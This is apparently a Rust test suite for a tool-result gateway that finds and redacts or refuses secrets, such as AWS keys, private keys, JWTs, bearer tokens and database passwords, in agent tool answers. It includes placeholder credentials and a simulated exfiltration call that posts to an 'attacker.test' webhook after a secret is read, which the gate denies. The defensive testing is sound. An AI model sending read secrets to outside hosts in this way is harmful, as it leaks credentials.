//! Results that feed the session: the detectors, the JSON and SSE readers, the
//! effects (record, redact, refuse), the bound, and the record's `response` block.

#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

use serde_json::{json, Value};
use toolgate::config::{Builtin, Config, Results};
use toolgate::enforce::Action;
use toolgate::gate::Outcome;
use toolgate::record::{DecisionRecord, ResultEffect};
use toolgate::response::{Framing, Reader};
use toolgate::results::{self, Findings, Scan, Session};
use toolgate::shared::Memory;
use toolgate::Gate;

mod kit;
use kit::Request;

const READER: &str = "spiffe://toolgate.test/agent/reader";
const KEY: &str = "AKIAIOSFODNN7EXAMPLE";
const PEM: &str =
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nabcDEF==\n-----END RSA PRIVATE KEY-----";
const JWT: &str =
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
const HISTORY: &str =
    r#"{"idle_seconds": 600, "max_entries": 256, "shards": 4, "sweep_seconds": 5}"#;
const T0: u64 = 1_800_000_000;

// -- the built-in matchers --------------------------------------------------------

fn found(builtin: Builtin, text: &str) -> Vec<&str> {
    let mut ranges = Vec::new();
    builtin.find(text.as_bytes(), &mut ranges);
    ranges.into_iter().map(|r| &text[r]).collect()
}

#[test]
fn aws_access_key_ids_are_found_at_word_boundaries_only() {
    let b = Builtin::AwsAccessKey;
    assert_eq!(found(b, &format!("key={KEY}\n")), [KEY]);
    assert_eq!(
        found(b, "ASIAY34FZKBOKMUTVV7A, x"),
        ["ASIAY34FZKBOKMUTVV7A"]
    );
    assert_eq!(found(b, &format!("\"{KEY}\" and \"{KEY}\"")), [KEY, KEY]);
    // Not: a longer run, a prefix inside a word, lower case, too short, another prefix.
    assert!(found(b, &format!("{KEY}X")).is_empty());
    assert!(found(b, &format!("X{KEY}")).is_empty());
    assert!(found(b, "akiaiosfodnn7example").is_empty());
    assert!(found(b, "AKIAIOSFODNN7EXAMPL").is_empty());
    assert!(found(b, "AXIAIOSFODNN7EXAMPLE").is_empty());
    assert!(found(b, "AKIA is how AWS key ids start").is_empty());
}

#[test]
fn private_key_blocks_are_found_whole_and_cut_short_ones_to_the_end() {
    let b = Builtin::PrivateKey;
    assert_eq!(found(b, &format!("id_rsa:\n{PEM}\ndone")), [PEM]);
    let openssh = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----";
    assert_eq!(found(b, openssh), [openssh]);
    let cut = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI";
    assert_eq!(found(b, &format!("x {cut}")), [cut]);
    // Public material is not a secret.
    assert!(found(
        b,
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"
    )
    .is_empty());
    assert!(found(
        b,
        "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----"
    )
    .is_empty());
    assert!(found(b, "-----BEGIN private key-----").is_empty());
}

#[test]
fn jwts_need_a_json_header_and_payload() {
    let b = Builtin::Jwt;
    assert_eq!(found(b, &format!("token: {JWT}.")), [JWT]);
    let unsigned = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.";
    assert_eq!(found(b, unsigned), [unsigned]);
    assert!(found(b, "eyJhbGciOiJIUzI1NiJ9.notapayloadatall.sig").is_empty());
    assert!(found(b, "eyJ.eyJ.x").is_empty());
    assert!(found(b, "keyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.x").is_empty());
}

#[test]
fn bearer_tokens_are_the_token_after_the_word() {
    let b = Builtin::BearerToken;
    assert_eq!(
        found(b, "Authorization: Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
        ["9f8e7d6c5b4a39281706f5e4d3c2b1a0"]
    );
    assert_eq!(
        found(
            b,
            "curl -H 'authorization: bearer sk_live_51HqLyjWDarjtT1zdp7dc'"
        ),
        ["sk_live_51HqLyjWDarjtT1zdp7dc"]
    );
    assert_eq!(found(b, &format!("BEARER\t{JWT}")), [JWT]);
    // Prose, short words, a word that only ends in "bearer", no gap.
    assert!(found(b, "the bearer of this letter is a friend").is_empty());
    assert!(found(b, "Bearer authentication scheme").is_empty());
    assert!(found(b, "Bearer abc123").is_empty());
    assert!(found(b, "flagbearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0").is_empty());
    assert!(found(b, "bearer:9f8e7d6c5b4a39281706f5e4d3c2b1a0").is_empty());
}

#[test]
fn connection_strings_give_up_their_password_only() {
    let b = Builtin::ConnectionString;
    assert_eq!(
        found(b, "DATABASE_URL=postgres://app:s3cr3t@db.internal:5432/app"),
        ["s3cr3t"]
    );
    assert_eq!(found(b, "redis://:hunter2@cache:6379/0"), ["hunter2"]);
    assert_eq!(
        found(b, "mongodb+srv://admin:p@ss:w0rd@cluster0.example.net/"),
        ["p@ss:w0rd"]
    );
    assert_eq!(found(b, "\"amqp://guest:guest@rabbit\""), ["guest"]);
    // No password, no user information, an email, a path with '@' and ':'.
    assert!(found(b, "ftp://anonymous@ftp.example.org/pub").is_empty());
    assert!(found(b, "https://example.com/a:b@c").is_empty());
    assert!(found(b, "write to admin@example.com: now").is_empty());
    assert!(found(b, "https://example.com:8443/path").is_empty());
    assert!(found(b, "postgres://app:@db").is_empty());
    assert!(found(b, "x://u:p@").is_empty());
}

#[test]
fn a_match_at_the_very_end_or_start_of_the_text_is_found() {
    assert_eq!(found(Builtin::AwsAccessKey, KEY), [KEY]);
    assert_eq!(found(Builtin::Jwt, JWT), [JWT]);
    assert_eq!(found(Builtin::ConnectionString, "db://u:p@h"), ["p"]);
}

// -- configuration ----------------------------------------------------------------

fn config(results: Value, history: bool) -> Result<Config, String> {
    let mut config = json!({ "trust_domains": ["toolgate.test"], "results": results });
    if history {
        config["history"] = serde_json::from_str(HISTORY).expect("JSON");
    }
    Config::from_json(config.to_string().as_bytes())
}

#[test]
fn the_default_detectors_are_every_built_in_recording_secret() {
    let config = config(json!({}), true).expect("valid");
    let results = config.results.expect("configured");
    let labels: Vec<&str> = results.detectors.iter().map(|d| d.label()).collect();
    assert_eq!(
        labels,
        [
            "aws_access_key",
            "private_key",
            "jwt",
            "bearer_token",
            "connection_string"
        ]
    );
    assert!(results.detectors.iter().all(|d| d.tag == "secret"));
    assert_eq!(results.max_buffer_bytes, 1024 * 1024);
}

#[test]
fn configuration_mistakes_are_refused_at_configure_time() {
    let cases = [
        (json!({}), false, "needs `history`"),
        (
            json!({ "detectors": [{ "builtin": "aws_access_key", "effect": "recrod" }] }),
            true,
            "unknown variant",
        ),
        (
            json!({ "detectors": [{ "builtin": "gcp_key", "effect": "record" }] }),
            true,
            "unknown variant",
        ),
        (
            json!({ "detectors": [{ "name": "x", "regex": "(", "effect": "redact" }] }),
            false,
            "regex",
        ),
        (
            json!({ "detectors": [{ "name": "x", "regex": "a*", "effect": "redact" }] }),
            false,
            "empty string",
        ),
        (
            json!({ "detectors": [{ "regex": "abc", "effect": "redact" }] }),
            false,
            "needs a `name`",
        ),
        (
            json!({ "detectors": [{ "name": "x", "builtin": "jwt", "regex": "abc", "effect": "redact" }] }),
            false,
            "exactly one",
        ),
        (
            json!({ "detectors": [{ "name": "x", "effect": "redact" }] }),
            false,
            "exactly one",
        ),
        (
            json!({ "detectors": [{ "builtin": "jwt", "effect": "redact" }, { "builtin": "jwt", "effect": "refuse" }] }),
            false,
            "two results detectors",
        ),
        (
            json!({ "detectors": [{ "name": "a b", "regex": "abc", "effect": "redact" }] }),
            false,
            "may only have",
        ),
        (
            json!({ "detectors": [], "colour": "red" }),
            false,
            "unknown field",
        ),
        (json!({ "max_buffer_bytes": 0 }), true, "at least 1"),
    ];
    for (results, history, needle) in cases {
        let error = config(results.clone(), history).expect_err(&results.to_string());
        assert!(error.contains(needle), "{results}: {error}");
    }
    // Redact and refuse need no history.
    let ok = json!({ "detectors": [{ "name": "ticket", "regex": "TICKET-[0-9]{6}", "tag": "pii", "effect": "redact" }] });
    assert!(config(ok, false).is_ok());
}

// -- reading answers ----------------------------------------------------------------

fn results_config(detectors: Value) -> Results {
    let config = config(json!({ "detectors": detectors }), true).expect("valid");
    config.results.expect("configured")
}

fn all(effect: &str) -> Results {
    let detectors: Vec<Value> = Builtin::ALL
        .iter()
        .map(|b| json!({ "builtin": b.id(), "effect": effect }))
        .collect();
    results_config(Value::Array(detectors))
}

fn asked(method: &str) -> toolgate::response::Asked {
    toolgate::response::Asked {
        method: Some(method.to_owned()),
        id: Some(json!(7)),
        resource: Some("tools/read_file".into()),
        batch: false,
        decision_id: "d-1".into(),
    }
}

fn reader_for(results: &Results, content_type: &str) -> Reader {
    let config = Config {
        results: Some(results.clone()),
        ..Config::default()
    };
    results::reader(
        &config,
        asked("tools/call"),
        Some(content_type.as_bytes()),
        None,
    )
    .expect("a reader")
}

/// Feeds `chunks` (the last one ends the body) and returns what went on, chunk by chunk.
fn run(
    results: &Results,
    reader: &mut Reader,
    findings: &mut Findings,
    chunks: &[&[u8]],
) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for (n, chunk) in chunks.iter().enumerate() {
        let mut scan = Scan::new(results, findings, true, None);
        out.push(reader.feed(&mut scan, chunk, n + 1 == chunks.len()));
    }
    out
}

fn tool_result(text: &str) -> Value {
    json!({ "jsonrpc": "2.0", "id": 7, "result": { "content": [{ "type": "text", "text": text }], "isError": false } })
}

fn text_of(body: &[u8]) -> String {
    let value: Value = serde_json::from_slice(body).expect("JSON");
    value["result"]["content"][0]["text"]
        .as_str()
        .expect("text")
        .to_owned()
}

#[test]
fn a_json_result_is_held_whole_then_redacted() {
    let results = all("redact");
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let text = format!("aws_access_key_id = {KEY}\nurl = postgres://app:s3cr3t@db/app\nAuthorization: Bearer {JWT}\n{PEM}\nok");
    let body = serde_json::to_vec(&tool_result(&text)).expect("JSON");
    let (first, second) = body.split_at(body.len() / 2);
    let out = run(&results, &mut reader, &mut findings, &[first, second]);
    assert!(
        out[0].is_empty(),
        "nothing goes on before the body is whole"
    );
    assert_eq!(
        text_of(&out[1]),
        "aws_access_key_id = [redacted:aws_access_key]\nurl = postgres://app:[redacted:connection_string]@db/app\n\
         Authorization: Bearer [redacted:jwt]\n[redacted:private_key]\nok"
    );
    let record = results::record(&results, &reader, &findings, true);
    assert_eq!(record.effect, ResultEffect::Redacted);
    assert_eq!(record.framing, Some(Framing::Json));
    assert_eq!(record.bytes, body.len() as u64);
    let counts: Vec<(&str, u64)> = record
        .detections
        .iter()
        .map(|d| (d.detector.as_str(), d.count))
        .collect();
    // The JWT after "Bearer" is both a JWT and a bearer token; it is redacted once.
    assert_eq!(
        counts,
        [
            ("aws_access_key", 1),
            ("private_key", 1),
            ("jwt", 1),
            ("bearer_token", 1),
            ("connection_string", 1)
        ]
    );
    let line = serde_json::to_string(&record).expect("JSON");
    for secret in [KEY, "s3cr3t", JWT, "MIIEpAIBAAKCAQEA7"] {
        assert!(
            !line.contains(secret),
            "the record never carries what matched: {line}"
        );
    }
}

#[test]
fn an_escaped_key_is_seen_after_unescaping() {
    let results = all("redact");
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let body = br#"{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"\u0041KIAIOSFODNN7EXAMPLE"}]}}"#;
    let out = run(&results, &mut reader, &mut findings, &[body]);
    assert_eq!(text_of(&out[0]), "[redacted:aws_access_key]");
}

#[test]
fn an_answer_with_nothing_in_it_goes_on_byte_for_byte() {
    let results = all("redact");
    let mut reader = reader_for(&results, "application/json; charset=utf-8");
    let mut findings = Findings::default();
    // Spacing and key order that re-encoding would change.
    let body = br#"{ "jsonrpc": "2.0", "id": 7, "result": {"isError": false, "content": [{"type": "text", "text": "AKIA is a prefix"}]} }"#;
    let out = run(&results, &mut reader, &mut findings, &[body]);
    assert_eq!(out[0], body.to_vec());
    assert_eq!(
        results::record(&results, &reader, &findings, true).effect,
        ResultEffect::Passed
    );
}

#[test]
fn a_refused_result_is_a_json_rpc_error_for_the_request_id() {
    let results = results_config(json!([{ "builtin": "private_key", "effect": "refuse" }]));
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let body = serde_json::to_vec(&tool_result(PEM)).expect("JSON");
    let out = run(&results, &mut reader, &mut findings, &[&body]);
    let error: Value = serde_json::from_slice(&out[0]).expect("JSON");
    assert_eq!(
        error,
        json!({ "jsonrpc": "2.0", "id": 7, "error": {
            "code": -32010,
            "message": "toolgate: the result carried what a detector refuses to pass on",
            "data": { "decision_id": "d-1", "reason": "result_refused", "detectors": ["private_key"] } } })
    );
    assert!(reader.finished());
    // Whatever else the upstream sends is dropped.
    let mut scan = Scan::new(&results, &mut findings, true, None);
    assert!(reader.feed(&mut scan, b"more", true).is_empty());
    let record = results::record(&results, &reader, &findings, true);
    assert_eq!(record.effect, ResultEffect::Refused);
    assert_eq!(record.reason.map(|r| r.code()), Some("result_refused"));
}

#[test]
fn a_refused_tool_result_can_be_an_is_error_result() {
    let results = results_config(json!([{ "builtin": "private_key", "effect": "refuse" }]));
    let config: Config =
        serde_json::from_value(json!({ "refusals": { "tools_call": "result" } })).expect("config");
    let config = Config {
        results: Some(results.clone()),
        ..config
    };
    let mut reader = results::reader(
        &config,
        asked("tools/call"),
        Some(b"application/json"),
        None,
    )
    .expect("reader");
    let mut findings = Findings::default();
    let body = serde_json::to_vec(&tool_result(PEM)).expect("JSON");
    let out = run(&results, &mut reader, &mut findings, &[&body]);
    let answer: Value = serde_json::from_slice(&out[0]).expect("JSON");
    assert_eq!(answer["id"], 7);
    assert_eq!(answer["result"]["isError"], true);
    assert_eq!(
        answer["result"]["_meta"]["toolgate"]["reason"],
        "result_refused"
    );
}

fn sse(message: &Value) -> Vec<u8> {
    format!("event: message\ndata: {message}\n\n").into_bytes()
}

fn progress(n: u32) -> Value {
    json!({ "jsonrpc": "2.0", "method": "notifications/progress", "params": { "progressToken": 1, "progress": n, "total": 3 } })
}

#[test]
fn sse_events_go_on_one_at_a_time_and_progress_is_not_held_back() {
    let results = all("redact");
    let mut reader = reader_for(&results, "text/event-stream");
    let mut findings = Findings::default();
    let (p1, p2) = (sse(&progress(1)), sse(&progress(2)));
    let last = sse(&tool_result(&format!("key {KEY}")));
    let mut scan = Scan::new(&results, &mut findings, true, None);
    assert_eq!(
        reader.feed(&mut scan, &p1, false),
        p1,
        "a complete event goes on at once, unchanged"
    );
    // Half an event waits; the rest of it completes it.
    let (a, b) = p2.split_at(10);
    assert!(reader.feed(&mut scan, a, false).is_empty());
    assert_eq!(reader.feed(&mut scan, b, false), p2);
    let out = reader.feed(&mut scan, &last, true);
    let text = String::from_utf8(out).expect("UTF-8");
    assert!(text.starts_with("event: message\ndata: {"), "{text}");
    assert!(text.ends_with("}\n\n"), "{text}");
    let data: Value =
        serde_json::from_str(text.trim_end().trim_start_matches("event: message\ndata: "))
            .expect("JSON");
    assert_eq!(
        data["result"]["content"][0]["text"],
        "key [redacted:aws_access_key]"
    );
    assert_eq!(reader.stats().messages, 3);
    assert_eq!(reader.stats().changed, 1);
}

#[test]
fn a_key_split_across_chunks_is_found_at_every_cut() {
    let results = all("redact");
    let stream = [
        sse(&progress(1)),
        sse(&tool_result(&format!("id={KEY};"))),
        b": keep-alive\n\n".to_vec(),
    ]
    .concat();
    for cut in 1..stream.len() {
        let mut reader = reader_for(&results, "text/event-stream");
        let mut findings = Findings::default();
        let (a, b) = stream.split_at(cut);
        let out = run(&results, &mut reader, &mut findings, &[a, b]).concat();
        let text = String::from_utf8(out).expect("UTF-8");
        assert!(!text.contains(KEY), "cut at {cut}: {text}");
        assert!(
            text.contains("id=[redacted:aws_access_key];"),
            "cut at {cut}: {text}"
        );
        assert!(text.ends_with(": keep-alive\n\n"), "cut at {cut}: {text}");
    }
    // Byte by byte, with CRLF line ends.
    let crlf = String::from_utf8(stream.clone())
        .expect("UTF-8")
        .replace('\n', "\r\n")
        .into_bytes();
    let mut reader = reader_for(&results, "text/event-stream");
    let mut findings = Findings::default();
    let chunks: Vec<&[u8]> = crlf.chunks(1).collect();
    let text = String::from_utf8(run(&results, &mut reader, &mut findings, &chunks).concat())
        .expect("UTF-8");
    assert!(
        text.contains("[redacted:aws_access_key]") && !text.contains(KEY),
        "{text}"
    );
    assert_eq!(reader.stats().messages, 2);
}

#[test]
fn a_refusal_on_an_sse_stream_is_an_error_event_and_the_rest_is_dropped() {
    let results = results_config(json!([{ "builtin": "aws_access_key", "effect": "refuse" }]));
    let mut reader = reader_for(&results, "text/event-stream");
    let mut findings = Findings::default();
    let chunks = [sse(&progress(1)), sse(&tool_result(KEY)), sse(&progress(3))];
    let chunks: Vec<&[u8]> = chunks.iter().map(Vec::as_slice).collect();
    let out = run(&results, &mut reader, &mut findings, &chunks);
    assert_eq!(out[0], chunks[0]);
    let text = String::from_utf8(out[1].clone()).expect("UTF-8");
    assert!(
        text.starts_with("event: message\ndata: {") && text.contains("\"result_refused\""),
        "{text}"
    );
    assert!(out[2].is_empty());
}

#[test]
fn non_utf8_bytes_are_read_as_bytes() {
    let results = all("redact");
    // Invalid JSON (a stray byte 0xff) still has its key redacted.
    let mut body =
        br#"{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"x"#.to_vec();
    body.push(0xff);
    body.extend_from_slice(format!(" {KEY} y\"}}]}}}}").as_bytes());
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let out = run(&results, &mut reader, &mut findings, &[&body]).concat();
    assert!(!out.windows(KEY.len()).any(|w| w == KEY.as_bytes()));
    assert!(out.windows(25).any(|w| w == b"[redacted:aws_access_key]"));
    assert!(out.contains(&0xff), "the rest goes on as it came");
    // The same in an SSE event's data, and in a body of another type.
    let mut event = b"data: \xfe".to_vec();
    event.extend_from_slice(format!("{KEY}\n\n").as_bytes());
    let mut reader = reader_for(&results, "text/event-stream");
    let out = run(&results, &mut reader, &mut findings, &[&event]).concat();
    assert_eq!(out, b"data: \xfe[redacted:aws_access_key]\n\n".to_vec());
    let mut reader = reader_for(&results, "text/plain");
    let raw = [b"\x80\x81 ".as_slice(), PEM.as_bytes()].concat();
    let out = run(&results, &mut reader, &mut findings, &[&raw]).concat();
    assert_eq!(out, b"\x80\x81 [redacted:private_key]".to_vec());
}

#[test]
fn a_duplicate_key_does_not_hide_a_secret() {
    // serde_json keeps the last "text"; an agent's parser may keep the first.
    let results = all("refuse");
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":7,"result":{{"content":[{{"type":"text","text":"{KEY}","text":"fine"}}]}}}}"#
    );
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let out = run(&results, &mut reader, &mut findings, &[body.as_bytes()]).concat();
    let answer: Value = serde_json::from_slice(&out).expect("JSON");
    assert_eq!(answer["error"]["data"]["reason"], "result_refused");
}

#[test]
fn a_huge_result_past_the_bound_is_refused_by_default_or_passed_when_configured() {
    let huge = serde_json::to_vec(&tool_result(&"x".repeat(300_000))).expect("JSON");
    let chunks: Vec<&[u8]> = huge.chunks(64 * 1024).collect();
    for (over_limit, refused) in [("refuse", true), ("pass", false)] {
        let config = config(
            json!({ "max_buffer_bytes": 100_000, "over_limit": over_limit }),
            true,
        )
        .expect("valid");
        let results = config.results.clone().expect("results");
        let mut reader = results::reader(
            &config,
            asked("tools/call"),
            Some(b"application/json"),
            None,
        )
        .expect("reader");
        let mut findings = Findings::default();
        let out = run(&results, &mut reader, &mut findings, &chunks);
        let record = results::record(&results, &reader, &findings, true);
        assert!(record.over_limit);
        if refused {
            let error: Value = serde_json::from_slice(&out.concat()).expect("JSON");
            assert_eq!(error["error"]["code"], -32011);
            assert_eq!(error["error"]["data"]["reason"], "result_too_large");
            assert_eq!(record.effect, ResultEffect::Refused);
            assert!(out.iter().skip(2).all(Vec::is_empty), "the rest is dropped");
        } else {
            assert_eq!(out.concat(), huge, "passed on as it came, uninspected");
            assert_eq!(record.effect, ResultEffect::Passed);
        }
    }
    // On an SSE stream the bound is per event: many small events pass, one huge one does not.
    let config = config(json!({ "max_buffer_bytes": 1000 }), true).expect("valid");
    let results = config.results.clone().expect("results");
    let mut reader = results::reader(
        &config,
        asked("tools/call"),
        Some(b"text/event-stream"),
        None,
    )
    .expect("reader");
    let mut findings = Findings::default();
    let events: Vec<Vec<u8>> = (0..50).map(progress).map(|p| sse(&p)).collect();
    let small: Vec<&[u8]> = events.iter().map(Vec::as_slice).collect();
    let mut scan = Scan::new(&results, &mut findings, true, None);
    for event in &small {
        assert_eq!(reader.feed(&mut scan, event, false), *event);
    }
    let big = sse(&tool_result(&"y".repeat(5000)));
    let out = reader.feed(&mut scan, &big, true);
    assert!(String::from_utf8_lossy(&out).contains("result_too_large"));
}

#[test]
fn a_compressed_answer_is_refused() {
    let results = all("record");
    let config = Config {
        results: Some(results.clone()),
        ..Config::default()
    };
    let mut reader = results::reader(
        &config,
        asked("tools/call"),
        Some(b"application/json"),
        Some(b"gzip"),
    )
    .expect("reader");
    let mut findings = Findings::default();
    let out = run(&results, &mut reader, &mut findings, &[b"\x1f\x8b..."]).concat();
    let error: Value = serde_json::from_slice(&out).expect("JSON");
    assert_eq!(
        error["error"]["data"]["reason"],
        "unsupported_content_encoding"
    );
}

#[test]
fn configured_regexes_match_with_their_own_tag_and_name() {
    let results = results_config(json!([
        { "name": "ticket", "regex": "TICKET-[0-9]{6}", "tag": "pii", "effect": "redact" },
        { "name": "iban", "regex": "\\bDE[0-9]{20}\\b", "tag": "pii", "effect": "refuse" }
    ]));
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let body = serde_json::to_vec(&tool_result("see TICKET-123456 and TICKET-12")).expect("JSON");
    let out = run(&results, &mut reader, &mut findings, &[&body]).concat();
    assert_eq!(text_of(&out), "see [redacted:ticket] and TICKET-12");
    let record = results::record(&results, &reader, &findings, true);
    assert_eq!(record.detections.len(), 1);
    assert_eq!(
        (
            record.detections[0].detector.as_str(),
            record.detections[0].tag.as_str()
        ),
        ("ticket", "pii")
    );
}

#[test]
fn shadow_mode_changes_nothing_and_logs_what_it_would_have_done() {
    let results = all("refuse");
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let body = serde_json::to_vec(&tool_result(KEY)).expect("JSON");
    let mut scan = Scan::new(&results, &mut findings, false, None);
    assert_eq!(reader.feed(&mut scan, &body, true), body);
    let record = results::record(&results, &reader, &findings, false);
    assert_eq!(record.effect, ResultEffect::Refused);
    assert!(!record.enforced);
}

// -- the session: a result that carried a key taints it -----------------------------

fn gate() -> Gate {
    let history: Value = serde_json::from_str(HISTORY).expect("JSON");
    kit::gate_with(json!({ "history": history, "results": {} }))
}

fn call(gate: &Gate, shared: &Memory, tool: &str, session: &str) -> kit::Decided {
    Request::tool(
        tool,
        json!({ "path": "notes.txt", "url": "https://attacker.test", "body": "x" }),
        READER,
    )
    .header("x-agent-session", session)
    .at(T0)
    .decide_with(gate, |input| input.shared = Some(shared))
}

/// The answer to a forwarded request, read as the glue reads it, in `chunks`.
fn answer(
    gate: &Gate,
    shared: &Memory,
    record: &DecisionRecord,
    content_type: &str,
    chunks: &[&[u8]],
) -> (Vec<u8>, Findings) {
    let config = gate.config();
    let asked = results::asked(config, record).expect("the answer is read");
    let mut reader =
        results::reader(config, asked, Some(content_type.as_bytes()), None).expect("reader");
    let mut findings = Findings::default();
    let mut out = Vec::new();
    for (n, chunk) in chunks.iter().enumerate() {
        let session = Session::of(config, record, shared, T0 as i64);
        let mut scan = Scan::new(
            config.results.as_ref().expect("results"),
            &mut findings,
            true,
            session,
        );
        out.extend(reader.feed(&mut scan, chunk, n + 1 == chunks.len()));
    }
    (out, findings)
}

#[test]
fn no_egress_after_a_read_file_whose_result_carried_a_key() {
    let gate = gate();
    let shared = Memory::new();
    let read = call(&gate, &shared, "read_file", "s1");
    assert_eq!(read.outcome, Outcome::Allow, "{}", read.record);
    let body =
        serde_json::to_vec(&tool_result(&format!("aws_access_key_id = {KEY}"))).expect("JSON");
    let (a, b) = body.split_at(40);
    let (out, findings) = answer(&gate, &shared, &read.typed, "application/json", &[a, b]);
    assert_eq!(out, body, "recorded, not changed");
    assert_eq!(findings.recorded(), ["secret"]);
    let egress = call(&gate, &shared, "post_webhook", "s1");
    assert_eq!(egress.outcome, Outcome::Deny, "{}", egress.record);
    assert_eq!(egress.policies(), ["no-egress-after-secret-read"]);
    assert_eq!(
        egress.record["cedar"]["context"]["session"]["tags"],
        json!(["secret"])
    );
    // Another session of the same agent, and a read whose result was clean, stay clean.
    assert_eq!(
        call(&gate, &shared, "post_webhook", "s2").outcome,
        Outcome::Allow
    );
    let clean = call(&gate, &shared, "read_file", "s3");
    answer(
        &gate,
        &shared,
        &clean.typed,
        "text/event-stream",
        &[&sse(&tool_result("nothing here"))],
    );
    assert_eq!(
        call(&gate, &shared, "post_webhook", "s3").outcome,
        Outcome::Allow
    );
}

#[test]
fn the_accept_encoding_header_is_dropped_only_for_answers_that_are_read() {
    // Lists are read by default (docs/lists.md): off here, a list is an answer nobody reads.
    let history: Value = serde_json::from_str(HISTORY).expect("JSON");
    let gate =
        kit::gate_with(json!({ "history": history, "results": {}, "lists": {"mode": "off"} }));
    let shared = Memory::new();
    let read = Request::tool("read_file", json!({ "path": "a" }), READER)
        .header("accept-encoding", "gzip")
        .at(T0)
        .decide_with(&gate, |input| input.shared = Some(&shared));
    let Action::Forward { remove, .. } = &read.action else {
        panic!("forwarded")
    };
    assert!(remove.contains(&"accept-encoding".to_owned()), "{remove:?}");
    let list = Request::post(
        json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/list" }),
        Some(READER),
    )
    .header("accept-encoding", "gzip")
    .at(T0)
    .decide_with(&gate, |input| input.shared = Some(&shared));
    let Action::Forward { remove, .. } = &list.action else {
        panic!("forwarded")
    };
    assert!(
        !remove.contains(&"accept-encoding".to_owned()),
        "{remove:?}"
    );
    assert!(
        results::asked(gate.config(), &list.typed).is_none(),
        "a list's answer is not read"
    );
    // With lists filtered (the default), a list's answer is read: no accept-encoding either.
    let listing = kit::gate_with(json!({ "history": history }));
    let list = Request::post(
        json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/list" }),
        Some(READER),
    )
    .header("accept-encoding", "gzip")
    .at(T0)
    .decide_with(&listing, |input| input.shared = Some(&shared));
    let Action::Forward { remove, .. } = &list.action else {
        panic!("forwarded")
    };
    assert!(remove.contains(&"accept-encoding".to_owned()), "{remove:?}");
}

#[test]
fn a_failed_history_write_refuses_the_result() {
    let gate = gate();
    let shared = Memory::new();
    let read = call(&gate, &shared, "read_file", "s1");
    // The agent's shard now holds bytes that do not decode.
    let key =
        toolgate::history::shard_key(gate.config().history.as_ref().expect("history"), READER);
    toolgate::shared::SharedData::set(&shared, &key, b"\xff\xff\xff", 0).expect("set");
    let body = serde_json::to_vec(&tool_result(KEY)).expect("JSON");
    let (out, findings) = answer(&gate, &shared, &read.typed, "application/json", &[&body]);
    let error: Value = serde_json::from_slice(&out).expect("JSON");
    assert_eq!(error["error"]["data"]["reason"], "internal_error");
    assert_eq!(error["id"], 1);
    assert!(findings.recorded().is_empty());
}

#[test]
fn the_response_block_is_in_the_record_line() {
    let line = DecisionRecord {
        response: Some(toolgate::record::ResponseRecord::default()),
        ..DecisionRecord::default()
    }
    .to_json();
    let value: Value = serde_json::from_str(&line).expect("JSON");
    for field in [
        "framing",
        "bytes",
        "messages",
        "detections",
        "effect",
        "enforced",
        "recorded_tags",
        "reason",
        "over_limit",
        "errors",
        "inspect_us",
    ] {
        assert!(value["response"].get(field).is_some(), "{field}: {line}");
    }
}

/// The answer `cargo bench -p toolgate --bench answers` times (`results/64_kib`): 64 KiB
/// with a URL and "bearer" in every sentence, none a token, and one key at its very end,
/// which is redacted while every other byte of the text goes on unchanged.
#[test]
fn a_64_kib_result_is_redacted_at_its_end_only() {
    let results = all("redact");
    let mut text = String::new();
    while text.len() < 64 * 1024 {
        text.push_str("The quick brown fox jumps over the lazy dog; see https://example.com/docs and bearer of news. ");
    }
    let body = serde_json::to_vec(&tool_result(&format!("{text}{KEY}"))).expect("JSON");
    let mut reader = reader_for(&results, "application/json");
    let mut findings = Findings::default();
    let out = run(&results, &mut reader, &mut findings, &[&body]);
    assert_eq!(text_of(&out[0]), format!("{text}[redacted:aws_access_key]"));
}
